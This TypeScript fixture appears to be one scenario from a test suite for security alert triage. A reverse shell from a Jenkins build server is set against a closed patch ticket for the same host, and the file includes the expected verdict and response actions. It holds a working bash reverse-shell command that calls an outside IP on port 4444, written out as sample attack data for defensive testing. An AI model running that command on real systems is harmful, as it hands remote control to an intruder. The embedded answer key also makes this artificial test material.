// A ticket about something else cannot clear a shell.
import { alert, connected, ran, ticket } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const patchedServerWithAShell: TellSituation = (setting) => {
  const server = setting.machine('srv-build-02')
  const at = setting.ago({ minutes: 29 })
  const ip = '172.86.122.93'
  const command = `bash -c bash -i >& /dev/tcp/${ip}/4444 0>&1`

  return {
    id: 'patched-server-with-a-shell',
    group: 'contradiction',
    title: 'A closed patch ticket and a shell on the same server',
    alerts: [
      alert(setting, at, 'siem', 'Redirect stdout/stdin to network connection', {
        time: setting.iso(at),
        priority: 'Warning',
        rule: 'Redirect stdout/stdin to network connection',
        hostname: server.host,
        output_fields: {
          'proc.cmdline': command,
          'proc.pname': 'java',
          'user.name': 'jenkins',
          'fd.rip': ip,
          'fd.rport': 4444,
        },
      }),
    ],
    facts: {
      intelligence: [
        setting.risk('ip', ip, 93, [['Current C&C Server', 4, 'Takes remote shells on 4444, validated today.']]),
      ],
      investigations: [
        ticket(
          setting,
          `CVE-2025-48122 on ${server.host}`,
          setting.ago({ hours: 3 }),
          'BENIGN',
          [{ machine: server }],
          'Patched this morning. No sign of use.',
          { source: 'USER', tags: ['Patch'] },
        ),
      ],
      telemetry: [
        ran(server, at, 'bash', command, { AccountName: 'jenkins', InitiatingProcessFileName: 'java' }),
        connected(server, at + 500, ip, {
          RemotePort: 4444,
          InitiatingProcessFileName: 'bash',
          InitiatingProcessCommandLine: command,
        }),
      ],
    },
    expected: {
      verdict: 'malicious',
      severities: ['high', 'critical'],
      proposals: [
        { action: 'isolate-machine', target: server.host },
        { action: 'block-indicator', target: ip },
      ],
    },
    because:
      'A shell was handed to a current command server and the connection stood. The ticket of the morning is about a patch and clears nothing.',
  }
}
